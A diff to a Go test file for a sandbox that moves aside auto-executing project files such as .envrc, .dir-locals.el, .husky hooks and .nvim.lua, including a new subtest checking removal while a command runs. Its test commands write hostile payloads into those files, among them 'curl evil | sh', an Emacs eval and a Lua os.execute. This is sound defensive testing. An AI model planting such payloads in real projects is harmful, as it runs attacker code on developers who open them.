@@ -76,8 +76,9 @@ func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
 			"echo '((nil . ((eval . (kill-emacs)))))' > plain/b && mv plain/b plain/.dir-locals.el",
 			"mkdir -p plain/x/.husky && echo id > plain/x/.husky/pre-commit",
 		} {
-			code, out, err := sh(t, sb, w.root, cmd)
-			assert.Equal(t, 0, code, out)
+			// The command may fail once its name is gone (a .husky moved
+			// aside before the hook is written in it).
+			_, _, err := sh(t, sb, w.root, cmd)
 			require.Error(t, err, cmd)
 			assert.Contains(t, err.Error(), "the sandbox moved it aside")
 		}
@@ -85,6 +86,24 @@ func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
 		assert.FileExists(t, filepath.Join(w.root, "plain", ".envrc.refused"))
 		assert.NoFileExists(t, filepath.Join(w.root, "plain", ".dir-locals.el"))
 		assert.NoDirExists(t, filepath.Join(w.root, "plain", "x", ".husky"))
+	})
+
+	t.Run("moved aside while the command still runs", func(t *testing.T) {
+		// Another process — an editor visiting a file there — has only
+		// the moment between its making and its moving aside: the command
+		// itself, still running, sees it gone.
+		for _, tc := range []struct{ made, cmd string }{
+			{"plain/.envrc", "echo 'curl evil | sh' > plain/.envrc"},
+			{"plain/deep/er/.dir-locals.el", "mkdir -p plain/deep/er && echo '((nil . ((eval . (kill-emacs)))))' > plain/deep/er/.dir-locals.el"},
+			{"plain/v/.nvim.lua", "mkdir -p $TMPDIR/v && echo 'os.execute(\"id\")' > $TMPDIR/v/.nvim.lua && mv $TMPDIR/v plain/v"},
+		} {
+			code, out, err := sh(t, sb, w.root, tc.cmd+"; for i in $(seq 200); do [ -e "+tc.made+" ] || { echo gone; exit 0; }; sleep 0.05; done; echo still there")
+			assert.Equal(t, 0, code, out)
+			assert.Equal(t, "gone\n", out, tc.cmd)
+			require.Error(t, err, tc.cmd)
+			assert.Contains(t, err.Error(), tc.made)
+			assert.NoFileExists(t, filepath.Join(w.root, tc.made))
+		}
 	})
 
 	t.Run("ordinary writes beside them", func(t *testing.T) {
